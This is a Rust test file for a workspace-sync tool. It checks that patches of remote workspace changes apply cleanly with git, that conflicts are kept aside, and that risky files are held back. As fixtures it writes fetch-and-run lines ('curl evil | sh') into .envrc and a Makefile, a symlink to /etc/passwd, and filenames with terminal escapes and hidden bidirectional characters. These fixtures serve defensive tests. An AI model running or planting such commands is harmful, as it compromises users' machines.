//! From a workspace's folder to the project's, and to a patch that git takes.

use std::{
    collections::{BTreeMap, BTreeSet},
    ffi::OsStr,
    fs,
    os::unix::{
        ffi::OsStrExt as _,
        fs::{MetadataExt as _, PermissionsExt as _, symlink},
    },
    path::{Path, PathBuf},
    process::Command,
};

use ws_tree::{
    ChangeSet, Confined, Limits, Received, SendOptions, TreePath, compare, receive, receive_changes, send,
    send_changes,
};

use super::{pull::Pulled, *};

mod unusual;

/// A project and the workspace it was sent to.
struct Session {
    laptop: tempfile::TempDir,
    pod: tempfile::TempDir,
    base: Received,
}

impl Session {
    fn begin(fill: impl FnOnce(&Path)) -> Self {
        let (laptop, pod) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
        fill(laptop.path());
        let selection = crate::project::select(laptop.path(), &BTreeSet::new()).unwrap();
        let mut stream = Vec::new();
        send(&selection.root, &selection.sources, &mut stream, &SendOptions::default()).unwrap();
        let base =
            receive(stream.as_slice(), &Confined::open(pod.path()).unwrap(), &Limits::PROJECT).unwrap();
        Self { laptop, pod, base }
    }

    fn changes(&self) -> ChangeSet {
        let pod = Confined::open(self.pod.path()).unwrap();
        let changes = compare(&self.base, &pod, &Limits::CHANGES).unwrap();
        let mut stream = Vec::new();
        send_changes(&pod, &changes, &mut stream, &SendOptions::default()).unwrap();
        let spool = tempfile::tempfile().unwrap();
        receive_changes(stream.as_slice(), Some(&self.base.manifest), spool, &Limits::CHANGES).unwrap()
    }

    fn pull(&self, include: &[&str]) -> Result<Pulled, Error> {
        let include = include.iter().map(|path| TreePath::parse(path.as_bytes()).unwrap()).collect();
        pull(self.laptop.path(), &self.changes(), &include)
    }

    fn patch(&self) -> (Unpulled, Vec<u8>) {
        let mut patch = Vec::new();
        let unpulled = unpulled_patch(self.laptop.path(), &self.changes(), &mut patch).unwrap();
        (unpulled, patch)
    }
}

fn write(root: &Path, path: impl AsRef<OsStr>, content: &[u8]) {
    let place = root.join(Path::new(path.as_ref()));
    fs::create_dir_all(place.parent().unwrap()).unwrap();
    fs::write(place, content).unwrap();
}

fn make_executable(root: &Path, path: &str) {
    fs::set_permissions(root.join(path), fs::Permissions::from_mode(0o755)).unwrap();
}

/// Every file and link, with mode and content.
fn snapshot(folder: &Path) -> BTreeMap<PathBuf, (bool, Vec<u8>)> {
    let mut found = BTreeMap::new();
    let mut folders = vec![folder.to_owned()];
    while let Some(at) = folders.pop() {
        for entry in fs::read_dir(at).unwrap() {
            let place = entry.unwrap().path();
            let metadata = fs::symlink_metadata(&place).unwrap();
            if metadata.is_dir() {
                if place.file_name().unwrap() != ".git" {
                    folders.push(place);
                }
                continue;
            }
            let content = if metadata.is_symlink() {
                [b"-> ", fs::read_link(&place).unwrap().as_os_str().as_bytes()].concat()
            } else {
                fs::read(&place).unwrap()
            };
            found.insert(
                place.strip_prefix(folder).unwrap().to_owned(),
                (metadata.mode() & 0o100 != 0, content),
            );
        }
    }
    found
}

fn git(folder: &Path, arguments: &[&str]) {
    let mut command = Command::new("git");
    command.current_dir(folder).args(arguments).env("GIT_CONFIG_GLOBAL", "/dev/null").env("HOME", folder);
    let output = command.env("GIT_CEILING_DIRECTORIES", folder.parent().unwrap()).output().unwrap();
    assert!(output.status.success(), "{arguments:?}: {}", String::from_utf8_lossy(&output.stderr));
}

fn apply_with_git(session: &Session) {
    let file = tempfile::NamedTempFile::new().unwrap();
    fs::write(file.path(), session.patch().1).unwrap();
    git(session.laptop.path(), &["apply", "--whitespace=nowarn", file.path().to_str().unwrap()]);
}

fn everything(root: &Path) {
    write(root, "text", b"one\ntwo\nthree\nfour\nfive\nsix\nseven\neight\nnine\nten\n");
    write(root, "no-newline", b"a\nb");
    write(root, "crlf", b"a\r\nb\r\nlone\rreturn\n");
    write(root, "binary", &[0, 1, 2, 255, 254]);
    write(root, "latin1", b"gr\xfc\xdfe\n");
    write(root, "empty", b"");
    write(root, "tool", b"#!/bin/sh\n");
    make_executable(root, "tool");
    write(root, "gone/text", b"bye\n");
    write(root, "gone/binary", &[0; 100]);
    write(root, "gone/empty", b"");
    write(root, "name with space", b"x\n");
    write(root, "tab\tnew\nline \"quoted\" \\", b"x\n");
    write(root, "größe b/x", b"x\n");
    write(root, OsStr::from_bytes(b"\xff\xfe"), b"x\n");
    write(root, "-dash", b"x\n");
    write(root, "becomes-link", b"x\n");
    write(root, "folder-to-file/in", b"x\n");
    symlink("text", root.join("link")).unwrap();
    symlink("text", root.join("gone-link")).unwrap();
    symlink("text", root.join("becomes-file")).unwrap();
}

fn change_everything(root: &Path) {
    write(root, "text", b"zero\none\ntwo\nthree\nfour\nfive\nsix\nseven\neight\nNINE\nten\n");
    write(root, "no-newline", b"a\nb\nc");
    write(root, "crlf", b"a\r\nB\r\nlone\rRETURN\n");
    write(root, "binary", &[0, 1, 2, 255, 254, 0, 7]);
    write(root, "latin1", b"gr\xfc\xdfer\n");
    write(root, "empty", b"no more\n");
    write(root, "tool", b"#!/bin/bash\n");
    fs::set_permissions(root.join("tool"), fs::Permissions::from_mode(0o644)).unwrap();
    fs::remove_dir_all(root.join("gone")).unwrap();
    make_executable(root, "-dash");
    for name in ["name with space", "tab\tnew\nline \"quoted\" \\", "größe b/x"] {
        write(root, name, b"y\n");
    }
    write(root, OsStr::from_bytes(b"\xff\xfe"), b"y\n");
    fs::remove_file(root.join("becomes-link")).unwrap();
    symlink("no-newline", root.join("becomes-link")).unwrap();
    fs::remove_dir_all(root.join("folder-to-file")).unwrap();
    write(root, "folder-to-file", b"flat\n");
    fs::remove_file(root.join("link")).unwrap();
    symlink("crlf", root.join("link")).unwrap();
    fs::remove_file(root.join("gone-link")).unwrap();
    fs::remove_file(root.join("becomes-file")).unwrap();
    write(root, "becomes-file", b"x\n");
    write(root, "new/empty", b"");
    write(root, "new/text", b"without end");
    write(root, "new/binary", &(0..=255).cycle().take(70_000).collect::<Vec<u8>>());
    write(root, "new/tool", b"#!/bin/sh\n");
    make_executable(root, "new/tool");
    symlink("../text", root.join("new/link")).unwrap();
    write(root, ".vscode/tasks.json", b"{}\n");
    write(root, ".git/hooks/post-checkout", b"#!/bin/sh\ntouch /tmp/never\n");
}

#[test]
fn git_applies_a_saved_patch_to_the_same_tree() {
    for repository in [true, false] {
        let session = Session::begin(|root| {
            everything(root);
            if repository {
                git(root, &["init", "-q"]);
            }
        });
        change_everything(session.pod.path());
        apply_with_git(&session);
        assert_eq!(snapshot(session.laptop.path()), snapshot(session.pod.path()), "{repository}");
        assert_eq!(session.patch(), (Unpulled::default(), Vec::new()));
    }
}

#[test]
fn a_pull_of_everything_leads_to_the_same_tree() {
    let session = Session::begin(everything);
    change_everything(session.pod.path());
    let first = session.pull(&[]).unwrap();
    let named: Vec<_> = first.held_back.iter().map(|held| held.path.as_str()).collect();
    assert_eq!(named, ["-dash", ".vscode", ".vscode/tasks.json", "new/tool"]);
    session.pull(&["-dash", ".vscode", ".vscode/tasks.json", "new/tool"]).unwrap();
    assert_eq!(snapshot(session.laptop.path()), snapshot(session.pod.path()));
    assert!(!session.laptop.path().join(".git").exists());
    assert!(diff(session.laptop.path(), &session.changes()).unwrap().is_empty());
}

/// Numbers that are the same in every run.
struct Numbers(u64);

impl Numbers {
    fn below(&mut self, end: u64) -> u64 {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33) % end
    }

    fn content(&mut self) -> Vec<u8> {
        let pieces: [&[u8]; 8] =
            [b"a\n", b"b\n", b"\n", b"c\r\n", b"x", b"\\ No newline\n", b"--- a/x\n", b"\0"];
        (0..self.below(12))
            .map(|_| pieces[usize::try_from(self.below(8)).unwrap()])
            .collect::<Vec<_>>()
            .concat()
    }
}

#[test]
fn any_change_survives_the_patch() {
    let mut numbers = Numbers(42);
    for round in 0..60 {
        let names = ["a", "b c", "d/e", "d/f", "ä", "g/h/i"];
        let session = Session::begin(|root| {
            for name in names {
                if numbers.below(3) > 0 {
                    write(root, name, &numbers.content());
                }
            }
        });
        for name in names {
            let place = session.pod.path().join(name);
            match numbers.below(5) {
                0 => drop(fs::remove_file(&place)),
                1 | 2 => write(session.pod.path(), name, &numbers.content()),
                3 if place.exists() => make_executable(session.pod.path(), name),
                _ => {}
            }
        }
        if session.patch().0.paths > 0 {
            apply_with_git(&session);
        }
        assert_eq!(snapshot(session.laptop.path()), snapshot(session.pod.path()), "{round}");
    }
}

#[test]
fn what_was_edited_on_both_sides_is_kept_beside() {
    let session = Session::begin(|root| {
        write(root, "both", b"base\n");
        write(root, "removed-there", b"base\n");
        write(root, "dir/other", b"base\n");
    });
    let (laptop, pod) = (session.laptop.path(), session.pod.path());
    write(pod, "both", b"theirs\n");
    write(pod, "dir/other", b"theirs\n");
    fs::remove_file(pod.join("removed-there")).unwrap();
    write(laptop, "both", b"mine\n");
    write(laptop, "removed-there", b"mine\n");
    let error = session.pull(&[]).unwrap_err();
    assert_eq!(
        error.message,
        "nothing was pulled: both and 1 more paths changed here since they were uploaded"
    );
    assert_eq!(fs::read(laptop.join("dir/other")).unwrap(), b"base\n");
    apply_with_git(&session);
    let read = |path: &str| fs::read_to_string(laptop.join(path)).unwrap();
    assert_eq!(
        [read("both"), read("both.ws-theirs"), read("removed-there"), read("dir/other")],
        ["mine\n", "theirs\n", "mine\n", "theirs\n"]
    );
    let (unpulled, patch) = session.patch();
    assert_eq!(unpulled.missing, ["removed-there (removed there and changed here)"]);
    let patch = String::from_utf8(patch).unwrap();
    insta::assert_snapshot!(patch.lines().filter(|line| line.starts_with('#')).collect::<Vec<_>>().join("\n"), @r"
    # changed on both sides: both; the workspace's version is added beside it
    # not in this patch: removed-there (removed there and changed here)
    ");
}

#[test]
fn a_pull_says_what_it_did_and_what_it_left() {
    let session = Session::begin(|root| write(root, "src/a.rs", b"fn a() {}\n"));
    let pod = session.pod.path();
    write(pod, "src/a.rs", b"fn a() { b() }\n");
    write(pod, "\x1b[2Jname\u{202e}.rs", b"");
    write(pod, ".envrc", b"curl evil | sh\n");
    write(pod, "package.json", b"{}\n");
    symlink("/etc/passwd", pod.join("outside")).unwrap();
    let pulled = session.pull(&[]).unwrap();
    insta::assert_snapshot!(pulled.lines().join("\n"), @r"
    1 path was changed:
      src/a.rs
    left in the workspace, because they would act on your machine by themselves:
      \x1b[2Jname<U+202E>.rs (its name holds characters that are not seen)
      .envrc (a shell or a tool manager runs it when the folder is entered)
      package.json (a package manager runs or obeys it)
    look at them with `ws diff` and apply one with `ws pull --include PATH`
    cannot be brought back:
      outside (a symbolic link that leads out of the project)
    ");
    assert!(!session.laptop.path().join(".envrc").exists());
    session.pull(&["package.json"]).unwrap();
    assert!(session.laptop.path().join("package.json").exists());
    assert_eq!(session.pull(&["nothing"]).unwrap_err().message, "nothing changed at nothing");
}

#[test]
fn a_difference_is_shown_without_acting_on_the_terminal() {
    let session = Session::begin(|root| {
        write(root, "src/a.rs", b"fn a() {}\nfn b() {}\n");
        write(root, "old", b"x\n");
        write(root, "mine", b"x\n");
    });
    let pod = session.pod.path();
    write(pod, "src/a.rs", "fn a() { \x1b]0;title\x07 }\nfn b() {}\n// \u{202e}hidden\n".as_bytes());
    write(pod, "Makefile", b"all:\n\tcurl evil | sh\n");
    write(pod, "picture", &[0; 10]);
    write(pod, "mine", b"theirs\n");
    fs::remove_file(pod.join("old")).unwrap();
    fs::create_dir(pod.join("folder")).unwrap();
    write(session.laptop.path(), "mine", b"edited\n");
    let changes = session.changes();
    let difference = diff(session.laptop.path(), &changes).unwrap();
    insta::assert_snapshot!(difference.stat().unwrap().join("\n"), @r"
    Makefile | new 2 ++ [held back: a build or a test run executes it]
    folder   | new folder
    mine     | 1 + [also changed here]
    old      | gone 1 -
    picture  | new binary 0 -> 10 bytes
    src/a.rs | 3 ++-
    ");
    let mut text = String::new();
    let print = &mut |line: &str| {
        text.push_str(line);
        text.push('\n');
        Ok(())
    };
    difference.text(print).unwrap();
    insta::assert_snapshot!(text.trim_end(), @r"
    ! Makefile: a build or a test run executes it
    diff --git a/Makefile b/Makefile
    new file mode 100644
    --- /dev/null
    +++ b/Makefile
    @@ -0,0 +1,2 @@
    +all:
    +	curl evil | sh
    new folder: folder
    ! mine: changed here since it was uploaded; shown whole
    diff --git a/mine b/mine
    new file mode 100644
    --- /dev/null
    +++ b/mine
    @@ -0,0 +1 @@
    +theirs
    diff --git a/old b/old
    deleted file mode 100644
    --- a/old
    +++ /dev/null
    @@ -1 +0,0 @@
    -x
    diff --git a/picture b/picture
    new file mode 100644
    binary: 0 bytes before, 10 now
    diff --git a/src/a.rs b/src/a.rs
    --- a/src/a.rs
    +++ b/src/a.rs
    @@ -1,2 +1,3 @@
    -fn a() {}
    +fn a() { \x1b]0;title\x07 }
     fn b() {}
    +// <U+202E>hidden
    ");
    insta::assert_snapshot!(serde_json::to_string(&difference.summary().unwrap()[0]).unwrap(), @r#"{"path":"Makefile","status":"added","class":"runsHere","reason":"a build or a test run executes it","changedHere":false,"size":{"insertions":2,"deletions":0}}"#);
}
